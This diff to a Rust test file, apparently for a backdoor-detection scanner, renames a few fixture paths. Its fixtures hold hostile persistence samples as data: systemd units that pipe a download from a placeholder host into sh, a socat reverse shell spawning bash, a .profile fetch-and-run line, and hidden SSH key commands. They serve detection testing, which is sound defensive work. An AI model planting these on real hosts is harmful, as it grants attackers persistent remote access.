@@ -38,7 +38,7 @@ const CASES: &[(&str, &str, Option<&str>)] = &[
     ("/etc/cron.d/nc", "0 * * * * root nc -z 127.0.0.1 6379 || systemctl restart redis\n", None),
     // systemd units
     ("/etc/systemd/system/upd.service", "[Unit]\nDescription=Updater\n[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -s http://example.invalid/u | sh'\n[Install]\nWantedBy=multi-user.target\n", Some("HF-BACKDOOR-SYSTEMD-FETCH-EXEC")),
-    ("/usr/lib/systemd/system/net-helper.service", "[Service]\nExecStart=/usr/bin/socat tcp-connect:198.51.100.4:443 exec:'bash -li',pty,stderr\nRestart=always\n", Some("HF-BACKDOOR-SYSTEMD-REVERSE-SHELL")),
+    ("/usr/lib/systemd/system/net-relay.service", "[Service]\nExecStart=/usr/bin/socat tcp-connect:198.51.100.4:443 exec:'bash -li',pty,stderr\nRestart=always\n", Some("HF-BACKDOOR-SYSTEMD-REVERSE-SHELL")),
     ("/lib/systemd/system/cron.service", "[Unit]\nDescription=Regular background program processing daemon\n[Service]\nEnvironmentFile=-/etc/default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\nIgnoreSIGPIPE=false\nKillMode=process\nRestart=on-failure\n", None),
     ("/etc/systemd/system/x.service", "[Service]\n; ExecStart=/bin/sh -c 'curl http://example.invalid | sh'\nExecStart=/usr/bin/true\n", None),
     // rc scripts
@@ -62,7 +62,7 @@ const CASES: &[(&str, &str, Option<&str>)] = &[
     ("/home/bob/.profile", "curl -s https://example.invalid/i.py | python3\n", Some("HF-BACKDOOR-STARTUP-FETCH-EXEC")),
     // SSH
     ("/root/.ssh/authorized_keys", "no-pty,command=\"/usr/local/bin/.k; exec $SHELL\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q ops\n", Some("HF-BACKDOOR-SSH-KEY-COMMAND")),
-    ("/root/.ssh/authorized_keys", "from=\"10.0.0.0/8\",no-agent-forwarding ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q command=x\n", None),
+    ("/root/.ssh/authorized_keys", "from=\"10.0.0.0/8\",no-port-forwarding ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q command=x\n", None),
     ("/etc/ssh/sshd_config", "AuthorizedKeysCommand /tmp/.keys.sh %u\nAuthorizedKeysCommandUser root\n", Some("HF-BACKDOOR-SSHD-KEYS-COMMAND")),
     ("/etc/ssh/sshd_config.d/ldap.conf", "AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody\n", None),
     ("/etc/ssh/sshd_config", "#AuthorizedKeysCommand none\n#AuthorizedKeysCommandUser nobody\n", None),
@@ -198,7 +198,7 @@ fn setuid_shells_by_name_and_by_content() {
         file_mode("/usr/bin/passwd", b"\x7fELF passwd", 0o4755),
         file_mode("/var/tmp/.cache/update", bash, 0o4755),
         file_mode("/opt/tools/sh", b"\x7fELF other", 0o4750),
-        file_mode("/usr/local/bin/helper", bash, 0o755),
+        file_mode("/usr/local/bin/tool", bash, 0o755),
     ]]);
     assert_eq!(
         ids_at(&f),
